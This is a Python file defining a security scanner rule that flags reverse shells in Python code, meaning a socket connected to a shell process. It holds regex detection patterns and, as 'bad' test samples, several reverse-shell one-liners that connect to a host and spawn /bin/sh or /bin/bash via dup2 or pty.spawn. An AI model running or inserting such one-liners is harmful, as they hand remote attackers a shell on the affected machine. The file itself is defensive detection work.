"""A Python socket becomes the input and output of a process."""

from __future__ import annotations

from symbi.contracts.scanner import Nearby, Pattern, ScannerRule

OPEN = r"\bsocket\.(?:socket|create_connection)\s*\("
PROCESS = r"(?:\bsubprocess\b|\bdup2\s*\(|\bpty\.spawn\b|\bos\.(?:system|popen|exec\w+)\s*\(|\bPopen\s*\()"
SPAWN = (
    r"""(?:\bdup2\s*\(\s*\w+\.fileno|\bpty\.spawn\s*\(|\b(?:subprocess\.\w+|Popen|os\.exec\w+|os\.system|os\.popen)\s*\(\s*\[?\s*["'](?:/(?:usr/)?bin/)?"""
    r"""(?:(?:ba|z|da)?sh|cmd(?:\.exe)?|powershell)\b)"""
)

RULE = ScannerRule(
    id="reverse-shell-python",
    category="reverse-shell",
    severity="critical",
    message="Connects a process to a network socket in Python",
    check=(
        Pattern(rf"\.connect\s*\(\s*\(.*{PROCESS}"),
        Pattern(rf"\bsock\w*\b.*\.connect\s*\(.*{PROCESS}", unless=r"\bsqlite3?\b.*"),
        Pattern(rf"(?:^|[^\w.])(?:s|so|sk|soc|sck|c|conn|client|sock\w*)\.connect\s*\(.*{PROCESS}"),
        Pattern(r"\bdup2\s*\(.*\bsock(?:et|s|fd)?\b"),
        Pattern(r"\bsocket\b.*(?:\bdup2\s*\(|\bpty\.spawn\b)"),
        Nearby((OPEN, SPAWN), within=15),
        Nearby(
            (
                OPEN,
                r"\.recv\s*\(",
                r"(?:subprocess\.\w+|Popen|os\.popen|os\.system)\s*\(\s*[A-Za-z_]\w*(?:\.\w+\(.*\))?\s*(?:\)|,\s*shell\s*=\s*True)",
            ),
            within=20,
        ),
    ),
    bad=(
        "s.connect(('10.0.0.1',4242));subprocess.call(['/bin/sh','-i'])",
        "import socket,os;s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0)",
        "os.dup2(s.fileno(), 0)  # the socket is the shell now",
        "import socket,pty\ns = socket.socket()\ns.connect((h, p))\npty.spawn('/bin/bash')",
    ),
    good=(
        "db = sqlite3.connect('a.db'); subprocess.run(['ls'])",
        "signal.connect(handler); subprocess.run(cmd)",
        "s = socket.socket()\ns.connect((host, 80))",
        "os.dup2(log.fileno(), 1)",
    ),
    remediation="Remove it; no skill needs to hand a shell to the network.",
    references=("https://attack.mitre.org/techniques/T1059/006/",),
    tags=("network", "execute"),
)
